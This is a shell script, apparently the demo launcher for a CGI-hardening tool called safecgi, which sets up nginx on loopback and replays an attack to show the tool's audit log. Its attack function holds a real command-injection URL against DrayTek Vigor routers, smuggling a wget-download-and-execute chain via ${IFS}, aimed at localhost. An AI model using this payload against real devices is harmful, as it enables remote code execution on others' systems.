#!/bin/sh
# The README demo: nginx on 127.0.0.1:8080 in front of safecgi serving an
# example cgi-bin.  Loopback only.
#
#   sh contrib/demo.sh start | stop | attack
set -eu

cd "$(dirname "$0")/.."
TOP=$(pwd)
DEMO=/srv/safecgi-demo
SOCK=/run/safecgi-demo.sock

start() {
	stop 2>/dev/null || true
	mkdir -p "$DEMO/cgi-bin" "$DEMO/nginx" "$DEMO/profiles"
	chmod 755 "$DEMO" "$DEMO/cgi-bin"
	for f in contrib/demo/cgi-bin/*; do
		install -m 0755 -o root -g root "$f" "$DEMO/cgi-bin/"
	done
	cp profiles/*.conf contrib/demo/demo.conf "$DEMO/profiles/"
	cat > "$DEMO/nginx/nginx.conf" <<NGINX
user www-data;
worker_processes 1;
error_log $DEMO/nginx/error.log;
pid $DEMO/nginx/nginx.pid;
events { worker_connections 256; }
http {
	access_log $DEMO/nginx/access.log;
	client_body_temp_path $DEMO/nginx/body;
	fastcgi_temp_path $DEMO/nginx/fastcgi;
	proxy_temp_path $DEMO/nginx/proxy;
	uwsgi_temp_path $DEMO/nginx/uwsgi;
	scgi_temp_path $DEMO/nginx/scgi;
	server {
		listen 127.0.0.1:8080;
		root $DEMO;
		location /cgi-bin/ {
			include /etc/nginx/fastcgi_params;
			fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
			fastcgi_pass unix:$SOCK;
		}
	}
}
NGINX
	SAFECGI="$TOP/build/src/safecgi"
	[ -x "$SAFECGI" ] || SAFECGI="$TOP/src/safecgi"
	setsid "$SAFECGI" -s "unix:$SOCK" --socket-group www-data \
	    --profile-dir "$DEMO/profiles" --audit-log "$DEMO/audit.jsonl" \
	    --error-log "$DEMO/safecgi.log" </dev/null >/dev/null 2>&1 &
	echo $! > "$DEMO/safecgi.pid"
	i=0
	while [ ! -S "$SOCK" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i + 1)); done
	nginx -c "$DEMO/nginx/nginx.conf" -p "$DEMO/nginx" -e "$DEMO/nginx/error.log"
	sleep 0.5
	cat <<MSG

safecgi demo is running (127.0.0.1 only):

  curl http://127.0.0.1:8080/cgi-bin/hello.sh

A deliberately vulnerable script, and the attack scanners send to it:

  sh contrib/demo.sh attack

Logs: $DEMO/safecgi.log (operational), $DEMO/audit.jsonl (audit)
Stop: sh contrib/demo.sh stop
MSG
	curl -s http://127.0.0.1:8080/cgi-bin/hello.sh
}

attack() {
	# The request from a real nginx log (DrayTek Vigor, CVE-2024-12987),
	# pointed at 127.0.0.1 instead of the attacker's host.
	url='http://127.0.0.1:8080/cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx%52$c%52$ccd${IFS}/dev;wget${IFS}http://127.0.0.1:9/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh'
	echo "\$ curl -g '$url'"
	curl -s -g "$url"
	echo
	echo "audit log:"
	sleep 0.5
	tail -n 8 "$DEMO/audit.jsonl"
}

stop() {
	[ -f "$DEMO/nginx/nginx.pid" ] && kill "$(cat "$DEMO/nginx/nginx.pid")" 2>/dev/null
	[ -f "$DEMO/safecgi.pid" ] && kill -TERM "$(cat "$DEMO/safecgi.pid")" 2>/dev/null
	rm -f "$DEMO/safecgi.pid" "$DEMO/nginx/nginx.pid"
	return 0
}

case "${1:-}" in
start)	start ;;
stop)	stop ;;
attack)	attack ;;
*)	echo "usage: sh contrib/demo.sh start|stop|attack" >&2; exit 2 ;;
esac
